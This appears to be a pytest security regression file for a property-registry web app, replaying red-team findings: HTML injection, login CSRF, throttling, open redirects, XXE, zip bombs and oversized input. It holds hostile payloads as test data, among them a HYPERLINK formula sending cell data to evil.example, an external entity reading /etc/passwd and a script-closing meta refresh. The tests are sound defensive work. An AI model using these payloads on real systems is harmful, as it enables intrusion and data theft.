"""The red team's cases, replayed (issue 19): each test is an attack or a fault that once worked,
and what a user or an attacker sees now, on both backends. Sections follow the report's numbers:
1 restore, 2 HTML injection, 3 login CSRF, 4 throttling, 5 formulas, 6 numbers and texts, 7 a full
disk, 8 sizes, 9 bad input, 10 sessions, passwords, redirects and paths."""
from __future__ import annotations

import re

import pytest
import requests

from registry.core import signin, users
from registry.core.models import LoginThrottle, User

from .webhelpers import PASSWORD, csrf_of, login_as, post, race


def _fresh_login(client, name, password, address="127.0.0.1"):
    env = {"REMOTE_ADDR": address}
    token = csrf_of(client.get("/login", environ_base=env).get_data(as_text=True))
    return client.post("/login", data={"username": name, "password": password, "csrf_token": token},
                       environ_base=env)


# 1. PostgreSQL restore with the documented roles ------------------------------------------------

@pytest.fixture
def app_role_url(pg_databases):
    """The set-up docs/operations.md gives: an application role that is not a superuser owns the
    database; PostGIS is created in it by the superuser."""
    import uuid
    from sqlalchemy import create_engine, text
    from sqlalchemy.engine import make_url
    from registry.storage import migrate
    from registry.storage.db import engine_for
    tag = uuid.uuid4().hex[:10]
    role, password, name = f"registry_{tag}", f"app-{tag}", f"t_{tag}"
    with pg_databases.admin.connect() as c:
        c.execute(text(f"CREATE ROLE {role} LOGIN PASSWORD '{password}'"))
        c.execute(text(f'CREATE DATABASE "{name}" OWNER {role}'))
    superuser_in_db = create_engine(make_url(pg_databases.admin_url).set(database=name), isolation_level="AUTOCOMMIT")
    with superuser_in_db.connect() as c:
        c.execute(text("CREATE EXTENSION postgis"))
    superuser_in_db.dispose()
    url = make_url(pg_databases.admin_url).set(database=name, username=role, password=password) \
        .render_as_string(hide_password=False)
    migrate.upgrade(url)
    yield url
    engine_for(url).dispose()
    with pg_databases.admin.connect() as c:
        c.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        c.execute(text(f"DROP ROLE IF EXISTS {role}"))


def test_restore_on_postgresql_with_the_documented_roles(app_role_url, tmp_path):
    from sqlalchemy import text
    from registry.sample import demo
    from registry.storage import bulk
    from registry.storage.db import engine_for, sessionmaker_for
    from web import create_app
    from .conftest import TODAY, Runner
    from .test_backup import _rows
    s = sessionmaker_for(app_role_url)()
    s.info["actor"] = "demo"
    bulk.load(s, demo.demo_dataset(TODAY))
    s.commit()
    s.close()
    before = _rows(app_role_url)
    out = tmp_path / "pg1.dump"
    assert Runner(app_role_url)("backup", "--out", str(out)).exit_code == 0
    with engine_for(app_role_url).begin() as c:
        c.execute(text("DELETE FROM rent_relief"))
        c.execute(text("DELETE FROM lease"))
    result = Runner(app_role_url)("restore", str(out), "--yes")
    assert result.exit_code == 0, result.output
    assert _rows(app_role_url) == before
    with engine_for(app_role_url).connect() as c:
        owners = set(c.scalars(text("SELECT DISTINCT tableowner FROM pg_tables WHERE schemaname = 'public' "
                                    "AND tablename <> 'spatial_ref_sys'")))
    assert owners == {app_role_url.split("://", 1)[1].split(":", 1)[0]}
    client = create_app({"TESTING": True, "DATABASE_URL": app_role_url, "SECRET_KEY": "k"}).test_client()
    assert client.get("/healthz").status_code == 200

    cut = tmp_path / "cut.dump"
    cut.write_bytes(out.read_bytes()[: out.stat().st_size // 3])
    result = Runner(app_role_url)("restore", str(cut), "--yes")
    assert result.exit_code == 1 and "不完整或已损坏" in result.output, result.output
    assert _rows(app_role_url) == before


# 2. HTML injection ---------------------------------------------------------------------------

def test_a_plot_code_cannot_close_the_land_pages_script_block(manager, world, session):
    from registry.core.enums import PlotStatus
    from . import factories as f
    evil = "</script><meta http-equiv=refresh content=0;url=//attacker/>"
    f.plot(session, world.park_a, status=PlotStatus.UNSUPPLIED).code = evil
    session.commit()
    page = manager.get(f"/parks/{world.park_a.id}/land").get_data(as_text=True)
    assert "<meta http-equiv=refresh" not in page and "</script><meta" not in page
    assert "\\u003c/script\\u003e" in page  # the code is there, escaped inside the JSON


def test_a_format_parameter_is_never_echoed_as_a_page(manager, world):
    for url in (f"/parks/{world.park_a.id}/reports/rent-roll", f"/parks/{world.park_a.id}/land",
                f"/parks/{world.park_a.id}/activity"):
        resp = manager.get(url, query_string={"format": "<meta http-equiv=refresh content=0;url=//x/>"})
        assert resp.status_code == 400
        assert "http-equiv=refresh" not in resp.get_data(as_text=True) and "xlsx" in resp.get_data(as_text=True)


# 3. Login CSRF -------------------------------------------------------------------------------

def test_a_login_posted_without_cookie_or_token_is_refused(client, world):
    resp = client.post("/login", data={"username": "admin", "password": PASSWORD})
    assert resp.status_code == 400 and "CSRF" in resp.get_data(as_text=True)
    resp = client.post("/login", data={"username": "admin", "password": PASSWORD, "csrf_token": ""})
    assert resp.status_code == 400
    assert "admin（" not in client.get("/").get_data(as_text=True)


def test_an_empty_token_never_matches_an_empty_session_token(client, world):
    login_as(client, world.admin)
    with client.session_transaction() as s:
        s["_csrf"] = ""
    assert client.post(f"/buildings/{world.building_a.id}/verify", data={"csrf_token": ""}).status_code == 400


# 4. Login throttling -------------------------------------------------------------------------

def test_thirty_parallel_guesses_are_checked_at_most_five_times_under_gunicorn(gunicorn_server, world, session):
    clients = [requests.Session() for _ in range(30)]
    tokens = [csrf_of(c.get(f"{gunicorn_server}/login").text) for c in clients]

    def send(i, c):
        return c.post(f"{gunicorn_server}/login", allow_redirects=False,
                      data={"username": "admin", "password": f"wrong-{i}", "csrf_token": tokens[i]}).text

    answers = race(clients, send)
    assert all(signin.WRONG in a or signin.LOCKED in a for a in answers), [a[-600:] for a in answers
                                                                           if signin.WRONG not in a and signin.LOCKED not in a]
    assert sum(signin.WRONG in a for a in answers) == signin.PER_NAME.free
    assert sum(signin.LOCKED in a for a in answers) == 30 - signin.PER_NAME.free
    last = requests.Session()
    token = csrf_of(last.get(f"{gunicorn_server}/login").text)
    resp = last.post(f"{gunicorn_server}/login", allow_redirects=False,
                     data={"username": "admin", "password": PASSWORD, "csrf_token": token})
    assert resp.status_code == 401 and signin.LOCKED in resp.text  # the right one, sent last, waits too
    session.expire_all()
    assert session.get(LoginThrottle, "name:admin@127.0.0.1").failures == signin.PER_NAME.free


def test_an_unknown_name_and_a_locked_account_get_the_same_answer_and_the_same_work(client, world, monkeypatch):
    for name in ("admin", "nobody-here"):
        for _ in range(signin.PER_NAME.free):
            _fresh_login(client, name, "wrong")
    checks = []
    real = users.verify_password
    monkeypatch.setattr(users, "verify_password", lambda stored, pw: checks.append(1) or real(stored, pw))

    def answer(name):
        checks.clear()
        resp = _fresh_login(client, name, "wrong")
        body = re.sub(r'name="csrf_token" value="[^"]+"', "", resp.get_data(as_text=True))
        return resp.status_code, re.sub(r"\d\d:\d\d:\d\d", "", body), len(checks)

    assert answer("admin") == answer("nobody-here")
    status, body, work = answer("admin")
    assert status == 401 and signin.LOCKED in body and work == 1


def test_an_attacker_cannot_lock_the_administrator_out(client, world):
    for _ in range(12):
        _fresh_login(client, "admin", "wrong", address="10.9.9.9")
    assert signin.LOCKED in _fresh_login(client, "admin", PASSWORD, address="10.9.9.9").get_data(as_text=True)
    assert _fresh_login(client, "admin", PASSWORD, address="10.1.1.1").status_code == 302


def test_spraying_many_names_from_one_address_is_slowed_down(client, world):
    for i in range(signin.PER_ADDRESS.free):
        _fresh_login(client, f"user{i}", "wrong", address="10.7.7.7")
    resp = _fresh_login(client, "admin", PASSWORD, address="10.7.7.7")
    assert resp.status_code == 401 and signin.LOCKED in resp.get_data(as_text=True)


# 10. Sessions, passwords, redirects, paths ----------------------------------------------------

def test_a_cookie_stops_working_at_sign_out(client, world):
    assert _fresh_login(client, "mgr_a", PASSWORD).status_code == 302
    stolen = client.get_cookie("session").value
    token = csrf_of(client.get(f"/parks/{world.park_a.id}").get_data(as_text=True))
    client.post("/logout", data={"csrf_token": token})
    thief = client.application.test_client()
    thief.set_cookie("session", stolen)
    resp = thief.get(f"/parks/{world.park_a.id}")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]


def test_deactivating_a_user_ends_their_sessions(client, world, session):
    assert _fresh_login(client, "mgr_a", PASSWORD).status_code == 302
    admin = client.application.test_client()
    login_as(admin, world.admin)
    assert post(admin, f"/admin/users/{world.manager_a}/active", {"active": "0"}).status_code == 302
    assert post(admin, f"/admin/users/{world.manager_a}/active", {"active": "1"}).status_code == 302
    resp = client.get(f"/parks/{world.park_a.id}")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]


def test_weak_passwords_are_refused_with_the_reason(client, world, session):
    login_as(client, world.admin)
    cases = {"12345678": "至少 12 个字符", "password1234": "常见", "aaaaaaaaaaaaaa": "常见",
             "zhangwei-secret-2026": "用户名"}
    for password, reason in cases.items():
        resp = post(client, "/admin/users", {"username": "zhangwei", "password": password, "role": "viewer"})
        page = resp.get_data(as_text=True)
        assert resp.status_code == 400 and reason in page, password
        assert 'value="zhangwei"' in page  # the form keeps what was typed
    session.expire_all()
    assert session.query(User).filter_by(username="zhangwei").count() == 0
    assert post(client, "/admin/users", {"username": "zhangwei", "password": "tea kettle on the hill",
                                         "role": "viewer"}).status_code == 302


def test_back_and_next_lead_only_to_this_site(client, world):
    for target in ("//evil.example/", "/\\evil.example/", "https://evil.example/", "/\t/evil.example/"):
        env = {"REMOTE_ADDR": "10.3.3.3"}
        token = csrf_of(client.get("/login", environ_base=env).get_data(as_text=True))
        resp = client.post("/login", query_string={"next": target}, environ_base=env,
                           data={"username": "admin", "password": PASSWORD, "csrf_token": token})
        assert resp.headers["Location"] == "/", target
        login_as(client, world.manager_a)
        resp = post(client, f"/buildings/{world.building_a.id}/verify", {"back": target})
        assert not resp.headers["Location"].startswith(("//", "/\\", "http")), target


# 5. Formula injection ------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def _formulas(data: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate."""
    import io
    from openpyxl import load_workbook
    book = load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in book.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def test_no_title_header_or_cell_of_any_workbook_becomes_a_formula(client, world, session):
    from registry.core.models import Enterprise
    world.park_a.name = FORMULA
    world.lease_a.contract_no = "+1+2"
    session.get(Enterprise, world.lease_a.enterprise_id).name = "@SUM(A1)"
    session.commit()
    login_as(client, world.admin)
    p = world.park_a.id
    urls = [f"/parks/{p}/reports/{k}?format=xlsx" for k in ("rent-roll", "expiry", "followup", "vacancy")]
    urls += [f"/parks/{p}/land?format=xlsx", f"/parks/{p}/activity?format=xlsx", f"/parks/{p}/excel/template",
             "/export/parks.xlsx", "/export/units.xlsx"]
    for url in urls:
        resp = client.get(url)
        assert resp.status_code == 200, url
        assert _formulas(resp.data) == [], url
        text = "\n".join(str(c.value) for ws in __import__("openpyxl").load_workbook(
            __import__("io").BytesIO(resp.data)).worksheets for row in ws.iter_rows() for c in row if c.value)
        if "reports" in url or "template" in url:
            assert "HYPERLINK" in text, url  # the name is there, as words


def test_the_evaluation_workbook_and_template_hold_no_formulas(session):
    from registry.evaluation import filemode, publish, runs
    from .test_evaluation_outputs import build_bureau
    bureau = build_bureau(session)
    bureau["firms"]["甲一精密"].name = FORMULA
    bureau["parks"]["甲园区"].name = "-2+3"
    session.commit()
    run = runs.create_run(session, ruleset="huaian-2024", year=2025, actor="bureau")
    session.commit()
    assert _formulas(publish.workbook(session, run)) == []
    assert _formulas(filemode.template()) == []


# 6. Non-finite numbers, sizes and lengths ------------------------------------------------------

def test_infinite_or_huge_numbers_are_refused_naming_the_field(manager, world, session):
    from registry.core.models import Building, Unit
    from .factories import square
    unit = world.building_a.units[5]
    for area in ("inf", "1e309", "nan", "-inf"):
        resp = post(manager, f"/units/{unit.id}/edit", {"floor_level": "3", "code": unit.code,
                                                          "leasable_area_m2": area, "version": unit.version})
        assert resp.status_code == 400, area
        assert f'value="{area}"' in resp.get_data(as_text=True)  # the form keeps what was typed
    b = world.building_a
    for field, value, words in (("floors_above", "100000", "地上层数"), ("gfa_m2", "1e309", "建筑面积"),
                                ("gfa_m2", "inf", "建筑面积")):
        form = {"code": b.code, "type": "standard_factory", "status": "completed", "floors_above": "3",
                "gfa_m2": "6000", "footprint": square(0.01), "version": b.version, field: value}
        resp = post(manager, f"/buildings/{b.id}/edit", form)
        assert resp.status_code == 400 and words in resp.get_data(as_text=True), (field, value)
    session.expire_all()
    assert session.get(Unit, unit.id).leasable_area_m2 == 1000 and session.get(Building, b.id).floors_above == 3
    page = manager.get(f"/parks/{world.park_a.id}").get_data(as_text=True)
    assert "inf ㎡" not in page and "nan%" not in page


def test_a_lease_with_a_trillion_months_free_or_an_infinite_relief_is_refused(manager, world, session):
    from registry.core.models import Lease
    unit = world.building_a.units[2]
    resp = post(manager, f"/buildings/{world.building_a.id}/leases",
                {"unit_id": [unit.id], "uscc": "91610902MA6YUCQX0Y", "name": "万年免租有限公司",
                 "start_date": "2026-01-01", "end_date": "2026-12-31", "rent": "12", "rent_free_months": "1e12"})
    assert resp.status_code == 400
    resp = post(manager, f"/buildings/{world.building_a.id}/leases",
                {"unit_id": [unit.id], "uscc": "91610902MA6YUCQX0Y", "name": "万年免租有限公司",
                 "start_date": "2026-01-01", "end_date": "2026-12-31", "rent": "12", "rent_free_months": "1000"})
    assert resp.status_code == 400 and "免租期" in resp.get_data(as_text=True)
    resp = post(manager, f"/leases/{world.lease_a.id}/relief",
                {"start_date": "2026-01-01", "end_date": "2026-01-31", "amount": "1e309", "reason": "疫情"})
    assert resp.status_code == 400
    session.expire_all()
    assert session.query(Lease).count() == 2


def test_text_longer_than_its_column_is_refused_on_both_backends(manager, world, session):
    from registry.core.models import Enterprise
    unit = world.building_a.units[2]
    resp = post(manager, f"/buildings/{world.building_a.id}/leases",
                {"unit_id": [unit.id], "uscc": "91610902MA6YUCQX0Y", "name": "长名有限公司",
                 "start_date": "2026-01-01", "end_date": "2026-12-31", "rent": "12",
                 "contact_name": "张" * 300})
    assert resp.status_code == 400 and "联系人有 300 个字符" in resp.get_data(as_text=True)
    session.expire_all()
    assert session.query(Enterprise).filter_by(uscc="91610902MA6YUCQX0Y").count() == 0


# 7. A full disk ------------------------------------------------------------------------------

def test_a_download_on_a_full_disk_is_whole_or_a_507(client, world, many_buildings, small_disk, monkeypatch):
    import io
    import tempfile
    import pyogrio
    from openpyxl import load_workbook
    monkeypatch.setattr(tempfile, "tempdir", str(small_disk))
    login_as(client, world.admin)
    for url in ("/export/units.kml", "/export/buildings.kml", "/export/buildings.geojson", "/export/buildings.xlsx",
                f"/parks/{world.park_a.id}/reports/rent-roll?format=xlsx"):
        resp = client.get(url)
        assert resp.status_code in (200, 507), url
        if resp.status_code == 507:
            assert "磁盘空间已满" in resp.get_data(as_text=True)
        elif url.endswith("xlsx"):
            load_workbook(io.BytesIO(resp.data))  # whole: its reader opens it
        else:
            path = __import__("pathlib").Path(tempfile.mkdtemp(dir=small_disk.parent)) / url.rsplit("/", 1)[1]
            path.write_bytes(resp.data)
            assert pyogrio.read_info(path)["features"] > 0
        assert list(small_disk.iterdir()) == [], url  # nothing left behind


def test_an_upload_on_a_full_disk_is_a_507_and_leaves_nothing(db_url, world, small_disk, monkeypatch):
    import io
    import os
    from web import create_app
    monkeypatch.setenv("REGISTRY_INSTANCE_PATH", str(small_disk))
    app = create_app({"TESTING": True, "DATABASE_URL": db_url, "SECRET_KEY": "k"})
    client = app.test_client()
    login_as(client, world.admin)
    big = os.urandom(200_000)
    resp = post(client, f"/parks/{world.park_a.id}/excel/preview",
                {"file": (io.BytesIO(big), "台账.xlsx")}, content_type="multipart/form-data")
    assert resp.status_code == 507 and "磁盘空间已满" in resp.get_data(as_text=True)
    resp = post(client, "/import", {"file": (io.BytesIO(big), "地块.zip"), "target": "plots"},
                content_type="multipart/form-data")
    assert resp.status_code == 507
    left = [p for p in small_disk.rglob("*") if p.is_file() and p.name != "secret_key"]
    assert left == []


def test_a_lease_signed_when_the_spatialite_disk_is_full_is_a_507_and_writes_nothing(db_url, world, tmp_path, session):
    import os
    import subprocess
    from registry.core.models import Lease
    from web import create_app
    if not db_url.startswith("sqlite"):
        return  # PostgreSQL's disk_full (SQLSTATE 53100) is mapped the same way; its disk is the server's
    src = db_url.removeprefix("sqlite:///")
    building_id, unit_id = world.building_a.id, world.building_a.units[2].id
    session.close()
    mnt = tmp_path / "db-disk"
    mnt.mkdir()
    size = os.path.getsize(src) + 64 * 1024
    if subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(mnt)]).returncode != 0:
        return
    try:
        import sqlite3
        with sqlite3.connect(src) as a, sqlite3.connect(mnt / "registry.sqlite") as b:
            a.backup(b)  # what is committed, WAL included
        url = f"sqlite:///{mnt / 'registry.sqlite'}"
        client = create_app({"TESTING": True, "DATABASE_URL": url, "SECRET_KEY": "k"}).test_client()
        login_as(client, world.manager_a)
        warm = client.get(f"/buildings/{building_id}")
        assert warm.status_code == 200, warm.headers.get("Location")  # connected: WAL files made
        filler = mnt / "filler"
        try:
            with open(filler, "wb", buffering=0) as fh:  # the rest of the disk, to the last byte
                while True:
                    fh.write(b"\0" * 4096)
        except OSError:
            pass
        resp = post(client, f"/buildings/{building_id}/leases",
                    {"unit_id": [unit_id], "uscc": "91610902MA6YUCQX0Y", "name": "满盘有限公司",
                     "start_date": "2026-01-01", "end_date": "2026-12-31", "rent": "12"})
        assert resp.status_code == 507 and "磁盘空间已满" in resp.get_data(as_text=True)
        filler.unlink()
        from registry.storage.db import engine_for, sessionmaker_for
        with sessionmaker_for(url)() as s:
            assert s.query(Lease).count() == 2
        engine_for(url).dispose()
    finally:
        subprocess.run(["umount", "-l", str(mnt)])


# 9. Bad input that once answered 500 ------------------------------------------------------------

def test_out_of_range_ids_and_dates_are_400s(client, world):
    login_as(client, world.admin)
    p = world.park_a.id
    for url in (f"/landcalc?park={2**31}&area_mu=10", f"/landcalc?plot={2**40}", f"/api/landcalc?park={2**63}",
                f"/parks/{p}/quality?as_of=0001-01-01", f"/parks/{p}?as_of=9999-12-31", "/?as_of=0001-01-01",
                f"/parks/{p}/reports/rent-roll?as_of=0001-01-02", f"/map?park={2**31}"):
        resp = client.get(url)
        assert resp.status_code in (200, 400), (url, resp.status_code)
        assert "Traceback" not in resp.get_data(as_text=True)
    resp = client.get(f"/parks/{p}/quality?as_of=0001-01-01")
    assert resp.status_code == 400 and "1900" in resp.get_data(as_text=True)
    for form in ({"ruleset": "huaian-2024", "year": str(2**31)}, {"ruleset": "huaian-2024", "year": "2025",
                                                                  "park": str(2**63)}):
        assert post(client, "/evaluation", form).status_code == 400


def test_a_deeply_nested_rule_set_is_refused_not_a_crash(client, world):
    import io
    login_as(client, world.admin)
    nested = "a = " + "[" * 100_000 + "]" * 100_000 + "\n"
    resp = post(client, "/evaluation", {"ruleset": "", "year": "2025",
                                        "ruleset_file": (io.BytesIO(nested.encode()), "rules.toml")},
                content_type="multipart/form-data")
    assert resp.status_code == 400 and "TOML" in resp.get_data(as_text=True)


def _footprint_form(b, footprint):
    return {"code": b.code, "type": "standard_factory", "status": "completed", "floors_above": "3",
            "gfa_m2": "6000", "footprint": footprint, "version": b.version}


def test_broken_geojson_footprints_are_refused_naming_the_field(manager, world, session):
    import json
    from registry.core.models import Building
    b = world.building_a
    ring = [[109.0, 32.0], [109.001, 32.0], [109.001, 32.001], [109.0, 32.001]]
    # A ring left open is closed, as GIS tools do (once a 500); everything else is refused.
    closed = post(manager, f"/buildings/{b.id}/edit", _footprint_form(b, json.dumps(
        {"type": "Polygon", "coordinates": [ring]})))
    assert closed.status_code == 302
    session.expire_all()
    b = session.get(Building, b.id)
    cases = {"nan": {"type": "Polygon", "coordinates": [[[109.0, float("nan")], *ring[1:], [109.0, float("nan")]]]},
             "two points": {"type": "Polygon", "coordinates": [[[109.0, 32.0], [109.001, 32.0]]]},
             "empty": {"type": "Polygon", "coordinates": []}}
    for name, geometry in cases.items():
        text = json.dumps(geometry).replace("NaN", "NaN")
        resp = post(manager, f"/buildings/{b.id}/edit", _footprint_form(b, text))
        assert resp.status_code == 400, (name, resp.status_code)
        assert "基底" in resp.get_data(as_text=True) or "footprint" in resp.get_data(as_text=True), name


def _xlsx_with(xml_extra: str) -> bytes:
    """A real workbook whose first sheet's XML carries ``xml_extra`` before its root element."""
    import io
    import zipfile
    from openpyxl import Workbook
    buf = io.BytesIO()
    wb = Workbook()
    wb.active.append(["楼栋编号", "单元编号"])
    wb.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<worksheet", xml_extra.encode() + b"<worksheet", 1)
            dst.writestr(item, data)
    return out.getvalue()


def test_spreadsheets_with_a_dtd_or_an_external_entity_are_refused(manager, world):
    import io
    cases = ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
             '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>']
    for extra in cases:
        resp = post(manager, f"/parks/{world.park_a.id}/excel/preview",
                    {"file": (io.BytesIO(_xlsx_with(extra)), "台账.xlsx")}, content_type="multipart/form-data")
        assert resp.status_code == 400, (extra, resp.status_code)
        assert "root:" not in resp.get_data(as_text=True)


def test_a_zip_with_a_bad_checksum_is_refused(client, world):
    import io
    import zipfile
    login_as(client, world.admin)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("地块.shp", b"x" * 1000)
        z.writestr("地块.shx", b"y" * 100)
        z.writestr("地块.dbf", b"z" * 100)
    data = bytearray(buf.getvalue())
    data[data.index(b"x" * 1000) + 10] = ord("!")  # the stored CRC no longer matches
    resp = post(client, "/import", {"file": (io.BytesIO(bytes(data)), "地块.zip"), "target": "plots"},
                content_type="multipart/form-data")
    if resp.status_code in (302, 303):
        resp = client.get(resp.headers["Location"])
    assert resp.status_code == 400, resp.status_code
    assert "/uploads/" not in resp.get_data(as_text=True)  # no server folders in the message


# 8. Sizes: configurable limits, a clear refusal -------------------------------------------------

def _squares(tmp_path, n, vertices=5, big=()):
    """``n`` round outlines as GeoJSON; those numbered in ``big`` have ``vertices`` vertices."""
    import geopandas as gpd
    import shapely
    shapes = [shapely.Point(109.0 + i * 0.001, 32.0).buffer(0.0003, quad_segs=max(1, (vertices - 1) // 4)
                                                            if i in big else 2) for i in range(n)]
    path = tmp_path / "楼栋.geojson"
    gpd.GeoDataFrame({"code": [f"L{i}" for i in range(n)]}, geometry=shapes, crs="EPSG:4490").to_file(path)
    return path


def test_an_import_past_its_feature_limit_is_refused_before_it_is_read(session, world, tmp_path, monkeypatch):
    import pytest
    from geodata.sources import SourceError
    from registry.gis import importer
    path = _squares(tmp_path, 12)
    monkeypatch.setenv("REGISTRY_MAX_IMPORT_FEATURES", "10")
    with pytest.raises(SourceError, match="要素数 12，超过上限 10"):
        importer.plan(session, path, importer.Options("buildings", park=world.park_a.name))
    monkeypatch.setenv("REGISTRY_MAX_IMPORT_FEATURES", "12")
    assert importer.plan(session, path, importer.Options("buildings", park=world.park_a.name)).problems == []


def test_an_outline_with_too_many_vertices_is_rejected_by_the_import_and_the_form(manager, session, world, tmp_path,
                                                                                 monkeypatch):
    import shapely
    from registry.gis import importer
    monkeypatch.setenv("REGISTRY_MAX_VERTICES", "100")
    path = _squares(tmp_path, 2, vertices=400, big=(1,))
    plan = importer.plan(session, path, importer.Options("buildings", park=world.park_a.name))
    assert any("超过上限 100" in r for f in plan.rejected for r in f.reasons), (plan.problems, plan.notes)
    b = world.building_a
    big = shapely.Point(109.0, 32.0).buffer(0.0003, quad_segs=100)
    resp = post(manager, f"/buildings/{b.id}/edit", {"code": b.code, "type": "standard_factory",
                                                     "status": "completed", "floors_above": "3", "gfa_m2": "6000",
                                                     "footprint": big.wkt, "version": b.version})
    assert resp.status_code == 400 and "顶点" in resp.get_data(as_text=True)


def test_a_spreadsheet_or_archive_past_its_limit_is_refused(manager, world, tmp_path, monkeypatch):
    import io
    import zipfile
    import pytest
    from geodata import sources
    from registry.gis import importer
    template = manager.get(f"/parks/{world.park_a.id}/excel/template").data  # six unit rows
    monkeypatch.setenv("REGISTRY_MAX_SHEET_ROWS", "3")
    resp = post(manager, f"/parks/{world.park_a.id}/excel/preview", {"file": (io.BytesIO(template), "台账.xlsx")},
                content_type="multipart/form-data")
    assert resp.status_code == 400 and "超过 3 行" in resp.get_data(as_text=True)
    monkeypatch.setenv("REGISTRY_MAX_ARCHIVE_MB", "1")
    bomb = tmp_path / "地块.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("地块.shp", b"\0" * (3 * 1024 * 1024))  # 3 MB of zeros in a few KB
    assert bomb.stat().st_size < 64 * 1024
    with pytest.raises(sources.SourceError, match="超过上限 1 MB"), sources.limited(importer.read_limits()):
        sources.read(bomb)


def test_a_drawing_past_its_record_limit_is_refused_before_gdal_parses_it(tmp_path, monkeypatch):
    import pytest
    from geodata import sources
    from registry.gis import importer
    from .test_gis_import import cad_drawing
    dxf = cad_drawing(tmp_path)
    records = sources._dxf_records(dxf)
    assert records > 6
    monkeypatch.setenv("REGISTRY_MAX_DXF_ENTITIES", str(records - 1))
    with pytest.raises(sources.SourceError, match="图元和顶点数"), sources.limited(importer.read_limits()):
        sources.read(dxf)
    monkeypatch.setenv("REGISTRY_MAX_DXF_ENTITIES", str(records))
    with sources.limited(importer.read_limits()):
        assert len(sources.read(dxf)) > 0


def test_a_building_holds_a_limited_number_of_units(manager, world, monkeypatch):
    monkeypatch.setenv("REGISTRY_MAX_UNITS_PER_BUILDING", "6")  # building A has six
    resp = post(manager, f"/buildings/{world.building_a.id}/units/new",
                {"floor_level": "1", "code": "1-03", "leasable_area_m2": "100", "leasable": "1"})
    assert resp.status_code == 400 and "6 个单元" in resp.get_data(as_text=True)


def test_a_huge_stored_footprint_is_simplified_for_the_card_and_the_brochure(client, world, session):
    import shapely
    from geoalchemy2.shape import from_shape
    from registry.core.models import Building
    b = session.get(Building, world.building_b.id)
    detailed = shapely.Point(109.0, 32.0).buffer(0.0005, quad_segs=5000)  # 20,001 vertices, stored before limits
    session.execute(Building.__table__.update().where(Building.id == b.id)
                    .values(footprint=from_shape(shapely.MultiPolygon([detailed]), srid=4490)))
    session.commit()
    card = client.get(f"/api/buildings/{b.id}").get_json()
    coords = sum(len(ring) for poly in card["footprint"]["coordinates"] for ring in poly)
    assert 4 <= coords <= 2000
    assert client.get(f"/buildings/{b.id}/brochure").status_code == 200


def test_a_user_changes_their_password_and_their_other_sessions_end(client, world, session):
    assert _fresh_login(client, "mgr_a", PASSWORD).status_code == 302
    other = client.application.test_client()
    assert _fresh_login(other, "mgr_a", PASSWORD, address="10.2.2.2").status_code == 302
    token = csrf_of(client.get("/account/password").get_data(as_text=True))
    form = {"csrf_token": token, "current_password": "wrong one", "password": "tea kettle on the hill",
            "confirm": "tea kettle on the hill"}
    resp = client.post("/account/password", data=form)
    assert resp.status_code == 400 and "当前密码不正确" in resp.get_data(as_text=True)
    resp = client.post("/account/password", data={**form, "current_password": PASSWORD, "confirm": "tea kettle"})
    assert resp.status_code == 400 and "两次输入的新密码不一致" in resp.get_data(as_text=True)
    resp = client.post("/account/password", data={**form, "current_password": PASSWORD})
    assert resp.status_code == 302
    assert client.get(f"/parks/{world.park_a.id}").status_code == 200  # this browser stays signed in
    assert other.get(f"/parks/{world.park_a.id}").status_code == 302  # the other one is signed out
    assert _fresh_login(other, "mgr_a", PASSWORD, address="10.2.2.2").status_code == 401
    assert _fresh_login(other, "mgr_a", "tea kettle on the hill", address="10.2.2.2").status_code == 302


def test_an_administrator_resets_a_forgotten_password(client, world, runner):
    login_as(client, world.admin)
    resp = post(client, f"/admin/users/{world.viewer}/password", {"password": "12345678"})
    assert resp.status_code == 400 and "至少 12 个字符" in resp.get_data(as_text=True)
    assert post(client, f"/admin/users/{world.viewer}/password",
                {"password": "river stones and moss"}).status_code == 302
    assert _fresh_login(client.application.test_client(), "viewer", "river stones and moss").status_code == 302
    result = runner("user", "password", "--username", "viewer", "--password-stdin", input="lanterns over water\n")
    assert result.exit_code == 0, result.output
    assert _fresh_login(client.application.test_client(), "viewer", "lanterns over water").status_code == 302


# The review's follow-ups ---------------------------------------------------------------------------

def test_an_import_cannot_store_what_a_form_may_not(session, world, tmp_path):
    import geopandas as gpd
    import shapely
    from registry.gis import importer
    shapes = [shapely.box(109.0 + i * 0.001, 32.0, 109.0005 + i * 0.001, 32.0005) for i in range(4)]
    path = tmp_path / "楼栋.gpkg"
    gpd.GeoDataFrame({"code": ["OK", "INF", "TALL", "L" * 300], "gfa_m2": [1000.0, float("inf"), 1000.0, 1000.0],
                      "floors": [1, 1, 1_000_000, 1], "type": ["standard_factory"] * 4, "status": ["completed"] * 4},
                     geometry=shapes, crs="EPSG:4490").to_file(path)
    plan = importer.plan(session, path, importer.Options("buildings", park=world.park_a.name))
    rejected = {r.key: "; ".join(r.reasons) for r in plan.rejected}
    assert set(rejected) == {"INF", "TALL", "L" * 300}, rejected
    assert "地上层数" in rejected["TALL"] and "个字符" in rejected["L" * 300]


def test_a_control_character_is_refused_on_input_and_never_breaks_an_export(manager, world, session):
    from registry.core.models import Enterprise
    unit = world.building_a.units[2]
    resp = post(manager, f"/buildings/{world.building_a.id}/leases",
                {"unit_id": [unit.id], "uscc": "91610902MA6YUCQX0Y", "name": "控制\x01字符有限公司",
                 "start_date": "2026-01-01", "end_date": "2026-12-31", "rent": "12"})
    assert resp.status_code == 400 and "控制字符" in resp.get_data(as_text=True)
    # A name stored before the rule (straight into the table) still exports.
